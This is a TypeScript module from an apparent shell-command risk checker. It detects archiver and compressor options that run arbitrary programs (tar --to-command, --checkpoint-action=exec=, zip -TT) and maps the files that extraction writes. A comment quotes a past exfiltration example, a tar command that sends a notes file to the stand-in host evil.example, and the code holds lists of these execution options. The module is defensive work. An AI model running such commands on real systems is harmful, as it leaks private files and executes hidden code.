// Archivers and compressors: the programs tar and zip run from their options
// (--to-command, -I, --checkpoint-action=exec=, zip -TT), and what tar, zip,
// unzip and the compressors write.
import { allValues, hasShort, splitArgs } from "../argv.js";
import { asTargets, cwdWord } from "../targets.js";
import type { Mode, Spec, Target } from "../targets.js";
import type { Word } from "../types.js";
import { joinWords, literalWord, unwrap } from "../unwrap.js";
import type { Delegate, Unwrap } from "../unwrap.js";
import { pullOptions, Runs, shQuote } from "./runs.js";
import type { CodeOption } from "./runs.js";

const TAR_CODE: CodeOption = {
  longs: ["--to-command", "--use-compress-program", "--rsh-command", "--info-script", "--new-volume-script"],
  shorts: "IF",
};
const COMPRESSOR =
  /^(gzip|gunzip|pigz|unpigz|bzip2|bunzip2|pbzip2|lbzip2|xz|unxz|pixz|lzma|unlzma|lzip|lzop|lz4|zstd|unzstd|pzstd|brotli|compress|uncompress)( +-[-a-zA-Z0-9=]+)*$/;

/** tar options that run commands: --to-command, --checkpoint-action=exec=, -I/--use-compress-program, --rsh-command, -F/--info-script. */
function tar(args: Word[]): Unwrap | null {
  // Old-style bundled letters (`tar xIf prog f.tar`) take their values in order: not followed here.
  const first = args[0];
  if (first && /^[a-zA-Z]+$/.test(first.text) && /[IF]/.test(first.text) && /[ctxrudA]/.test(first.text)) {
    return unwrap("delegate:tar", 2, "tar's bundled options name a program to run", { opaque: [joinWords(args).text] });
  }
  const runs = new Runs();
  const actions = pullOptions(args, { longs: ["--checkpoint-action"], not: ["--checkpoint"] });
  for (const v of actions.values) {
    if (/^exec=/.test(v.text)) runs.add({ ...v, text: v.text.slice(5) }, 2, "tar runs a command at each checkpoint");
  }
  const { values, rest } = pullOptions(actions.rest, TAR_CODE);
  for (const v of values) runs.add(v, COMPRESSOR.test(v.text.trim()) ? 0 : 2, "tar runs a command named by an option");
  return runs.result("delegate:tar", [[literalWord("tar"), ...rest]]);
}

/** zip's test command: `-TT CMD` / `--unzip-command CMD` runs CMD on the archive. */
function zip(args: Word[]): Unwrap | null {
  const runs = new Runs();
  const kept: Word[] = [literalWord("zip")];
  const archive = args.find((w) => !w.text.startsWith("-"));
  for (let i = 0; i < args.length; i++) {
    const w = args[i] as Word;
    const m = /^(?:-TT|--unzip-command|--unzip-co|--unzip-com)(?:=(.*))?$/s.exec(w.text) ?? /^-TT(.+)$/s.exec(w.text);
    if (!m) {
      kept.push(w);
      continue;
    }
    const v = m[1] !== undefined ? { ...w, text: m[1] } : args[++i];
    if (!v) continue;
    const withArchive = v.text.includes("{}") ? { ...v, text: v.text.replaceAll("{}", shQuote(archive?.text ?? "")) } : v;
    runs.add(withArchive, 2, "zip runs a command to test the archive", v.text.includes("{}") ? "" : shQuote(archive?.text ?? ""));
  }
  return runs.result("delegate:zip", [kept]);
}

export function tarTargets(args: readonly Word[]): Target[] {
  const a = splitArgs(args, new Set(["-f", "--file", "-C", "--directory", "-T", "-X", "--exclude"]));
  // Every mode letter counts, wherever it stands (`tar -C / -xf x.tar`), and old-style bundles (`tar xf x.tar`).
  const oldStyle = args[0] !== undefined && /^[a-zA-Z]+$/.test(args[0].text) && /[ctxruA]/.test(args[0].text);
  const mode =
    a.flags
      .filter((f) => !f.startsWith("--"))
      // A letter that takes a value ends the bundle's letters: the rest is that value (`-cfu.txt` writes u.txt).
      .map((f) => f.slice(1).replace(/^([^bCfFgHIKLNTVX]*[bCfFgHIKLNTVX]).*$/, "$1"))
      .join("") + (oldStyle ? (args[0]?.text ?? "") : "");
  if (/x/.test(mode) || a.flags.includes("--extract") || a.flags.includes("--get")) {
    // To standard output (`tar -xOf`, `--to-stdout`): nothing lands on disk.
    if (/O/.test(mode) || a.flags.includes("--to-stdout")) return [];
    const dirs = allValues(args, "C", ["--directory"], "xctvzjJapkmUwWr");
    const dir = dirs[dirs.length - 1] ?? cwdWord();
    // Operands other than the archive are the members extracted: the files written. The archive is found as tar
    // reads it (`-xf A`, `-xzfA`, `--file A`, old-style `xf A`): splitArgs does not take a bundle's value (round 25).
    const archive = archiveFile(args, oldStyle);
    const members = a.positional.filter((w, i) => w !== archive && !(oldStyle && i === 0 && w === args[0]) && !w.text.startsWith("-"));
    const under = (m: Word): Word =>
      m.text.startsWith("/") || dir.text === "."
        ? m
        : { ...m, text: `${dir.text.replace(/\/+$/, "")}/${m.text}`, dynamic: m.dynamic || dir.dynamic, glob: m.glob || dir.glob };
    // Members named on the line are what it writes (a wildcard or a directory member may hold names not known here).
    const named = members.length > 0 && members.every((m) => !m.dynamic && !m.glob && !/[*?[]/.test(m.text) && !m.text.endsWith("/"));
    // A member may name a directory (`tar -xf a.tar src`): what it holds that git does not is judged as for the whole.
    return [
      ...(named ? [{ word: dir, mode: "write" as Mode }] : [{ word: dir, mode: "write" as Mode, fills: true }]),
      ...members.map((m) => ({ word: under(m), mode: "write" as Mode, fills: true })),
    ];
  }
  if (/[cru]/.test(mode) || a.flags.includes("--create") || a.flags.includes("--append")) {
    const f = archiveFile(args, oldStyle);
    return f ? [{ word: f, mode: "write" }] : [];
  }
  return [];
}

/** The archive tar writes: `-f F`, `-cf F` (f ends a bundle), `-cfF`, `--file F`, `--file=F`, old-style `tar cf F`. */
function archiveFile(args: readonly Word[], oldStyle: boolean): Word | undefined {
  let f: Word | undefined;
  if (oldStyle && /f/.test(args[0]?.text ?? "")) f = args[1];
  for (let i = oldStyle ? 1 : 0; i < args.length; i++) {
    const w = args[i] as Word;
    if (w.text === "--") break;
    if (w.text === "--file") f = args[i + 1];
    else if (w.text.startsWith("--file=")) f = { ...w, text: w.text.slice(7) };
    else if (/^-[^-bCfFgHIKLNTVX]*f/.test(w.text)) {
      // f within a bundle's letters (before any letter that takes a value): the rest, or the next word, is the archive.
      const rest = w.text.slice(w.text.indexOf("f") + 1);
      f = rest ? { ...w, text: rest } : args[i + 1];
      if (!rest) i++;
    } else if (
      /^-[^-]*[bCFgHIKLNTVX]$/.test(w.text) ||
      /^--(directory|files-from|exclude-from|exclude|file|to-command|use-compress-program)$/.test(w.text)
    ) {
      i++; // a value-taking option's value is not an option
    }
  }
  return f;
}

/**
 * The archive tar or cpio opens on another host (`-f HOST:PATH`, `cpio -F
 * user@HOST:PATH`): a colon before any slash names a host, reached through
 * rsh (ssh on most systems), whose remote command carries PATH — unless
 * --force-local. Review 31: `tar -tf "evil.example:$(cat notes.md)"` was tier 0.
 */
export function remoteArchive(name: string, args: readonly Word[]): Word | null {
  if (args.some((w) => w.text === "--force-local")) return null;
  let f: Word | undefined;
  if (name === "tar") {
    const oldStyle = args[0] !== undefined && /^[a-zA-Z]+$/.test(args[0].text) && /[ctxruA]/.test(args[0].text);
    f = archiveFile(args, oldStyle);
  } else if (name === "cpio") {
    for (let i = 0; i < args.length; i++) {
      const t = (args[i] as Word).text;
      const m = /^(?:-[a-zA-Z]*[FIO]|--file)(?:=?(.*))?$/s.exec(t);
      if (m) f = m[1] ? { ...(args[i] as Word), text: m[1] } : args[i + 1];
    }
  }
  return f !== undefined && /^[^/]*:/.test(f.text) ? f : null;
}

/** Programs that only decompress; the others do with -d, --decompress, --uncompress. */
const UNPACKS = /^(gunzip|bunzip2|unxz|unzstd|unlzma|uncompress|unlz4|zstdmt)$/;
const PACKED_SUFFIX = /\.(gz|z|Z|bz2|bz|xz|lzma|zst|zstd|lz4|lz|lzo)$|-gz$|_z$/;

/**
 * A compressor's files: each input is replaced; decompressing, the file it writes is the input's name without its
 * suffix (`-S SUF`, else the program's own; `.tgz` is `.tar`), which may replace work git does not hold or plant a
 * file whose content runs later (round 25: `gunzip -f src/x.js.gz`, `gunzip .envrc.gz`).
 */
export function compressorTargets(args: readonly Word[], name = "gzip"): Target[] {
  const a = splitArgs(args, new Set(["-S", "--suffix"]));
  if (hasShort(a.flags, /[ctl]/) || a.flags.includes("--stdout") || a.flags.includes("--list") || a.flags.includes("--test")) return [];
  const inputs = asTargets(a.positional, "write");
  const unpacks = UNPACKS.test(name) || hasShort(a.flags, /d/) || a.flags.includes("--decompress") || a.flags.includes("--uncompress");
  if (!unpacks) return inputs;
  const suffix =
    a.values.get("-S") ??
    a.values.get("--suffix") ??
    a.flags
      .map((f) => /^-S(.+)$/s.exec(f)?.[1])
      .find((v) => v)
      ?.toString();
  const outputs = a.positional.map((w) => {
    const given = typeof suffix === "string" ? suffix : suffix?.text;
    const text =
      given && w.text.endsWith(given) && w.text.length > given.length
        ? w.text.slice(0, -given.length)
        : /\.t(gz|bz2?|xz|zst|lz)$/.test(w.text)
          ? w.text.replace(/\.t(gz|bz2?|xz|zst|lz)$/, ".tar")
          : w.text.replace(PACKED_SUFFIX, "");
    return { word: { ...w, text }, mode: "write" as Mode };
  });
  return [...inputs, ...outputs.filter((o, i) => o.word.text !== a.positional[i]?.text)];
}

export const zipTargets: Spec = (a) => {
  const s = splitArgs(a, new Set(["-b", "-n", "-t", "-tt", "-x", "-i", "-P"]));
  const out = asTargets(s.positional.slice(0, 1), "write");
  // -m/--move deletes the files once they are in the archive: their content goes there (round 23).
  const zip = s.positional[0];
  const moves = s.flags.some((f) => f === "--move" || /^-[a-zA-Z]*m/.test(f));
  return moves && zip
    ? [...out, ...s.positional.slice(1).map((w) => ({ word: w, mode: "tree" as const, keeps: true, movedTo: [zip] }))]
    : out;
};

export const unzipTargets: Spec = (a) => {
  // Listing, testing, comments and extraction to standard output write nothing (`unzip -l`, `-qq -l`, `-t`, `-Z`, `-p`).
  const shorts = a.filter((w) => /^-[a-zA-Z]+$/.test(w.text)).map((w) => w.text.slice(1));
  if (shorts.some((f) => /^[^d]*[ltvZpcz]/.test(f))) return [];
  // The extraction directory: `-d DIR`, `-dDIR`, or at the end of a bundle (`-od DIR`, `-qod DIR`).
  for (let i = 0; i < a.length; i++) {
    const m = /^-[a-zA-Z]*d(.*)$/s.exec((a[i] as Word).text);
    if (!m || (a[i] as Word).text.startsWith("--")) continue;
    const dir = m[1] ? { ...(a[i] as Word), text: m[1] } : a[i + 1];
    if (dir) return [{ word: dir, mode: "write", fills: true }];
  }
  return [{ word: cwdWord(), mode: "write", implicit: true, fills: true }];
};

export const tarDelegate: Delegate = (_name, args) => tar(args);

export const zipDelegate: Delegate = (_name, args) => zip(args);

/**
 * 7z/7za `x`/`e` and unrar `x`/`e`: an extraction into -oDIR (7z) or a
 * trailing `DIR/` operand (unrar), else the working directory, which it
 * fills with member names not known here (judged for links that lead out,
 * as tar's and unzip's are).
 */
export const sevenZipTargets: Spec = (a) => {
  const cmd = a.find((w) => !w.text.startsWith("-"));
  if (!cmd || !/^[ex]$/.test(cmd.text)) return [];
  const o = a.filter((w) => /^-o./.test(w.text)).at(-1);
  const dir = o ? { ...o, text: o.text.slice(2) } : cwdWord();
  return [{ word: dir, mode: "write", fills: true }];
};

export const unrarTargets: Spec = (a) => {
  const ops = a.filter((w) => !w.text.startsWith("-"));
  if (!ops[0] || !/^[ex]$/.test(ops[0].text)) return [];
  const last = ops.length > 2 ? ops.at(-1) : undefined;
  const dir = last && last.text.endsWith("/") ? last : cwdWord();
  return [{ word: dir, mode: "write", fills: true }];
};

/** `jar xf F` / `jar -xf F` / `jar --extract`: members into the working directory. */
export const jarTargets: Spec = (a) => {
  const first = a[0]?.text ?? "";
  const extract = /^-?[a-zA-Z]*x/.test(first) || a.some((w) => w.text === "--extract" || /^-[a-zA-Z]*x[a-zA-Z]*$/.test(w.text));
  const out: Target[] = extract ? [{ word: cwdWord(), mode: "write", fills: true }] : [];
  // `jar cf FILE …`, `jar -cf FILE`, `jar uf FILE`, `jar --file=FILE` (review 24): the archive created or updated.
  const modes = /^-?[a-zA-Z]+$/.test(first) && !first.startsWith("--") ? first.replace(/^-/, "") : "";
  if (/[cu]/.test(modes) && modes.includes("f")) {
    // The values of f, m and e come in the order their letters do, after the mode word.
    const valued = [...modes].filter((c) => c === "f" || c === "m" || c === "e");
    const file = a[1 + valued.indexOf("f")];
    if (file !== undefined) out.push({ word: file, mode: "write" });
  }
  for (let i = 0; i < a.length; i++) {
    const t = (a[i] as Word).text;
    if (t === "--file") {
      const v = a[i + 1];
      if (v !== undefined && /[cu]/.test(modes + (a.some((w) => /^--(create|update)$/.test(w.text)) ? "c" : "")))
        out.push({ word: v, mode: "write" });
    } else if (t.startsWith("--file=") && (/[cu]/.test(modes) || a.some((w) => /^--(create|update)$/.test(w.text))))
      out.push({ word: { ...(a[i] as Word), text: t.slice("--file=".length) }, mode: "write" });
  }
  return out;
};

/**
 * ar's extraction (`ar x lib.a`, `ar -xo lib.a`): members land in the working directory under names only the archive
 * knows (round 25: it wrote `.envrc` and replaced untracked work); named members are those files. Other operations
 * write the archive.
 */
export const arTargets: Spec = (args) => {
  const [op, archive, ...members] = args;
  if (!op || !archive) return [];
  const letters = op.text.replace(/^-/, "");
  if (/x/.test(letters))
    return members.length > 0
      ? members.map((m) => ({ word: m, mode: "write" as Mode, fills: true }))
      : [{ word: cwdWord(), mode: "write", fills: true }];
  return /[dmqrs]/.test(letters) ? [{ word: archive, mode: "write" }] : [];
};
